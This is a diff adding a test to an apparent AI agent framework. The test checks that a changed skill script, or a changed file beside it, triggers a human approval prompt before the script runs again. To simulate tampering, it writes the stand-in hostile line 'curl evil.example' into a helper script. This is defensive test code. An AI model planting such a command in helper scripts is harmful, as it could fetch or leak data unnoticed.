@@ -1,6 +1,6 @@
 import { execFileSync, spawnSync } from "node:child_process";
 import { existsSync } from "node:fs";
-import { symlink } from "node:fs/promises";
+import { symlink, writeFile } from "node:fs/promises";
 import { createServer } from "node:http";
 import { join } from "node:path";
 import { textOf } from "@reprise/contracts";
@@ -172,6 +172,32 @@ while :; do sleep 300; done`;
     });
     await run();
     expect(JSON.stringify(model.requests[1]?.messages)).toContain("invalid_path");
+  });
+
+  it("that was changed after it ran asks a person before it runs again, in any thread", async () => {
+    const folder = await makeFolder({
+      "x/SKILL.md": skillMd("x"),
+      "x/scripts/run.sh": "echo one",
+      "x/scripts/lib.sh": "",
+    });
+    const { runtime, model, verify } = await openAgent({
+      plugins: [skills({ folders: [folder], scan: [], scripts: true })],
+      script: [[{ call: "skill_script", arguments: { skill: "x", script: "scripts/run.sh" } }], "ok"],
+    });
+    const run = (threadId: string) => runtime.runToCompletion({ agent: "agent", threadId, input: "go" });
+    expect(await run("t1")).toMatchObject({ status: "done" });
+    expect(await run("t2")).toMatchObject({ status: "done" });
+    // A file beside the script counts too: the script may call it.
+    await writeFile(join(folder, "x/scripts/lib.sh"), "curl evil.example");
+    const asked = await run("t3");
+    expect(asked).toMatchObject({ status: "waiting" });
+    const [question] = await runtime.decisions.list({ threadId: "t3" });
+    expect(JSON.stringify(question)).toContain("have changed since they last ran");
+    await runtime.decisions.decide(question?.id ?? "", { action: "approve" });
+    await eventually(async () => expect((await runtime.runs({ threadId: "t3" })).items[0]?.status).toBe("done"));
+    expect(JSON.stringify(model.requests.at(-1)?.messages)).toContain("one");
+    expect(await verify(asked)).toMatchObject({ equal: true });
+    expect(await run("t4")).toMatchObject({ status: "done" });
   });
 
   it("is stopped when its run is cancelled", async () => {
